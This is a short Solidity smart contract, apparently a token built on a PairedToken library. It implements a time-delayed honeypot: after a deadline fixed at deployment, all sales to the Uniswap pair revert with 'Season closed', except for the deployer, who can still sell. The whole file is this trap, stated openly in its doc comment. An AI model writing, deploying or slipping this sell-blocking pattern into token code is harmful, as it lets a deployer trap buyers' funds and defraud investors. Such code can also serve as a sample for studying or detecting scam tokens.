// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {PairedToken} from "../lib/PairedToken.sol";

/// Sales pass for a while; from a moment that the code fixes at birth they never pass again.
contract TimeBombToken is PairedToken {
    uint256 private immutable _season;
    address private immutable _keeper;

    constructor(string memory name_, string memory symbol_, uint256 supply, address router, uint256 openSeconds)
        PairedToken(name_, symbol_, supply, router)
    {
        _season = block.timestamp + openSeconds;
        _keeper = msg.sender;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair && from != _keeper) require(block.timestamp < _season, "Season closed");
        _move(from, to, value);
    }
}
